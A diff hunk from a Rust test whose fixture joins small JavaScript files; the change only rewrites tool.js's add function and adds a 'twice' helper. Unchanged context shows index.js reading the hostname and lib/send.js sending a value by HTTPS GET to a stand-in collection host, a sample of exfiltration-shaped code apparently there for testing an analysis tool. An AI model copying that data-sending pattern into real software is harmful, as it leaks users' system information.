@@ -157,7 +157,7 @@ fn javascript_files_are_joined() {
          -- index.js --\nconst os = require('os');\nconst { send } = require('./lib/send');\nos.hostname();\nsend('1');\n\
          -- lib/send.js --\nconst https = require('https');\n\
          exports.send = function (text) { https.get('https://collect.example.test/?h=' + text); };\n\
-         -- tool.js --\nexports.add = (a, b) => a + b;\n",
+         -- tool.js --\nexports.add = (one, other) => one + other;\nexports.twice = (one) => exports.add(one, one);\n",
         &[],
         "",
     );
